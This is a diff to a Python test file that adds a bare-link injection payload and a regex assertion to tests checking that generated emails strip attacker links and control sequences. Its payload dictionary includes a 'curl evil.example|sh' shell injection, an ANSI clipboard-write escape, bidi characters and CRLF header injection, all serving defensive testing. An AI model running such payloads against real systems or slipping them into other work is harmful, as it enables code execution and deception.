@@ -30,6 +30,7 @@ from tests.workflows.fake_cluster import BROKEN, PEER, SPARE, FakeCluster
 PAYLOADS = {
     "heading": "ok\r\n\r\nNeeded     https://evil.example/approve\nEvil",
     "link": "see https://evil.example/x or www.evil.example mailto:a@evil.example",
+    "bare link": "see login.evil.example/approve evil.example:8443/x evil.example?x",
     "shell": "x; curl evil.example|sh # `id` $(id) && 'a' \"b\"",
     "ansi": "\x1b[2J\x1b]52;c;RXZpbA==\x07\x1b]0;Evil\x07 \x9b31m",
     "bidi": "\u202eEvil\u2066\u200f\u2028Evil\u2029\x85Evil",
@@ -138,6 +139,7 @@ def test_no_email_holds_more_than_text(story: Any, payload: str) -> None:
         assert all(line.isprintable() for line in mail.body.split("\n")), mail.body
         assert not re.search(r"(?mi)^(Needed|Approve|Refuse)\s+https?://evil", mail.body), mail.body
         assert not re.search(r"(?i)(https?://|mailto:|www\.)\S*evil", mail.subject + mail.body), mail.body
+        assert not re.search(r"(?i)evil\.example(:\d+)?[/?]", mail.subject + mail.body), mail.body
         assert len(mail.body) < 30_000
         for line in commands_of(mail.body):
             assert runs_one_command(line), line
